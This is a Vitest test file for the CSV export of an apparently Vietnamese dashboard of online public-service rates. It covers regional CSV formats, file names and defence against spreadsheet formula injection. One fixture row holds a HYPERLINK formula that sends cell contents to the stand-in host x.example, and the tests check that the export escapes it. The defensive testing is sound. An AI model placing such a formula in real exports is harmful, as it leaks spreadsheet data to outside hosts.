import { describe, expect, it } from 'vitest'
import { asSpreadsheetText, CSV_EXCEL_VI, toCsv } from '../../src/export/csv'
import { exportFileName, periodFileName, periodKeys, type ExportTable } from '../../src/export/table'

const table: ExportTable = {
  sheet: 'Xếp hạng',
  title: 'Xếp hạng',
  columns: [
    { key: 'name', label: 'Đơn vị', kind: 'text' },
    { key: 'value', label: 'Tỷ lệ hồ sơ trực tuyến', kind: 'rate' },
    { key: 'received', label: 'Tiếp nhận', kind: 'count' },
    { key: 'status', label: 'Trạng thái', kind: 'status' },
  ],
  rows: [
    { name: 'Xã Tân Quới', value: 5190 / 9286, received: 9286, status: 'met' },
    { name: 'Xã "Mới", thử', value: null, received: 0, status: null },
  ],
  statusLabels: { met: 'Đạt', notMet: 'Chưa đạt' },
}

describe('toCsv', () => {
  it(
    'starts with a BOM, keeps Vietnamese as is, writes rates ' + 'as percentage numbers and blanks for missing values',
    () => {
      const csv = toCsv(table)
      expect(csv.charCodeAt(0)).toBe(0xfeff)
      expect(csv.slice(1).split('\r\n')).toEqual([
        'Đơn vị,Tỷ lệ hồ sơ trực tuyến (%),Tiếp nhận,Trạng thái',
        'Xã Tân Quới,55.89,9286,Đạt',
        '"Xã ""Mới"", thử",,0,',
        '',
      ])
    },
  )
})

describe('toCsv for Excel with Vietnamese regional settings', () => {
  const changes: ExportTable = {
    sheet: 'Theo tháng',
    title: 'Theo tháng',
    columns: [
      { key: 'month', label: 'Tháng', kind: 'month' },
      { key: 'name', label: 'Đơn vị', kind: 'text' },
      { key: 'value', label: 'Tỷ lệ', kind: 'rate' },
      { key: 'change', label: 'Thay đổi', kind: 'points' },
      { key: 'received', label: 'Tiếp nhận', kind: 'count' },
    ],
    rows: [
      { month: '2021-06', name: 'Xã Tân Quới; Tháp Mười', value: 5190 / 9286, change: -0.0525, received: 12345 },
      { month: '2021-07', name: 'Xã An Phong', value: null, change: 0.343, received: 0 },
    ],
  }

  it(
    'separates with semicolons, writes decimal commas and ' + 'months as MM/yyyy, quotes a name holding a semicolon',
    () => {
      const lines = toCsv(changes, { pointsUnit: 'điểm %', dialect: CSV_EXCEL_VI }).slice(1).split('\r\n')
      expect(lines).toEqual([
        'Tháng;Đơn vị;Tỷ lệ (%);Thay đổi (điểm %);Tiếp nhận',
        '06/2021;"Xã Tân Quới; Tháp Mười";55,89;-5,25;12345',
        '07/2021;Xã An Phong;;34,3;0',
        '',
      ])
    },
  )

  it('the standard CSV keeps commas, decimal dots and ISO months; its points header also says "điểm %"', () => {
    const lines = toCsv(changes, { pointsUnit: 'điểm %' }).slice(1).split('\r\n')
    expect(lines.slice(0, 2)).toEqual([
      'Tháng,Đơn vị,Tỷ lệ (%),Thay đổi (điểm %),Tiếp nhận',
      '2021-06,Xã Tân Quới; Tháp Mười,55.89,-5.25,12345',
    ])
  })
})

describe('CSV cells a spreadsheet would evaluate', () => {
  const hostile: ExportTable = {
    sheet: 'Chậm tiến độ',
    title: 'Chậm tiến độ',
    columns: [
      { key: 'name', label: 'Đơn vị', kind: 'text' },
      { key: 'change', label: 'Thay đổi', kind: 'points' },
      { key: 'received', label: 'Tiếp nhận', kind: 'count' },
    ],
    rows: [
      { name: '=HYPERLINK("http://x.example/?"&A1,"Xem")', change: -0.052, received: -3 },
      { name: '+84 Xã Thử', change: 0.01, received: 7 },
      { name: '-Xã Thử', change: null, received: 0 },
      { name: '@SUM(A1:A9)', change: null, received: 0 },
      { name: '\t=1+1', change: null, received: 0 },
      { name: '\r=1+1', change: null, received: 0 },
      { name: 'Xã Tân Quới - Tháp Mười', change: null, received: 0 },
    ],
  }

  it(
    'start with an apostrophe when they are text beginning ' + 'with = + - @ tab or CR; negative numbers stay numbers',
    () => {
      const lines = toCsv(hostile).slice(1).split('\r\n')
      expect(lines.slice(1, -1)).toEqual([
        '"\'=HYPERLINK(""http://x.example/?""&A1,""Xem"")",-5.2,-3',
        "'+84 Xã Thử,1,7",
        "'-Xã Thử,,0",
        "'@SUM(A1:A9),,0",
        "'\t=1+1,,0",
        '"\'\r=1+1",,0',
        'Xã Tân Quới - Tháp Mười,,0',
      ])
    },
  )

  it('the rule itself: only the first character counts', () => {
    expect(['=1', '+1', '-1', '@1', '\t1', '\r1', '1-1', 'Xã =1', ''].map(asSpreadsheetText)).toEqual([
      "'=1",
      "'+1",
      "'-1",
      "'@1",
      "'\t1",
      "'\r1",
      '1-1',
      'Xã =1',
      '',
    ])
  })
})

describe('exportFileName', () => {
  it.each([
    ['Huyện Thanh Bình', 'pptx', undefined, 'tien-do-dvctt_thanh-binh_2021-01_2021-06.pptx'],
    ['Tỉnh Đồng Tháp', 'xlsx', undefined, 'tien-do-dvctt_dong-thap_2021-01_2021-06.xlsx'],
    ['Xã Tân Quới', 'csv', 'Xếp hạng', 'tien-do-dvctt_tan-quoi_xep-hang_2021-01_2021-06.csv'],
    ['Phường 1', 'png', undefined, 'tien-do-dvctt_1_2021-01_2021-06.png'],
  ])('%s → %s', (unit, ext, part, expected) => {
    expect(exportFileName(unit, { from: '2021-01', to: '2021-06' }, ext, part)).toBe(expected)
  })
})

describe('periodFileName', () => {
  it.each([
    [
      { from: '2026-W48', to: '2026-W48' },
      'Theo dõi hằng tuần',
      'tien-do-dvctt_dong-thap_theo-doi-hang-tuan_2026-W48.xlsx',
    ],
    [{ from: '2026-W36', to: '2026-W48' }, undefined, 'tien-do-dvctt_dong-thap_2026-W36_2026-W48.xlsx'],
    [{ from: '2026-11', to: '2026-11' }, 'Chỉ số phục vụ', 'tien-do-dvctt_dong-thap_chi-so-phuc-vu_2026-11.xlsx'],
  ])('%j (%s): one period named once, a range by its ends', (range, part, expected) => {
    expect(periodFileName('Tỉnh Đồng Tháp', periodKeys(range), 'xlsx', part)).toBe(expected)
  })
})
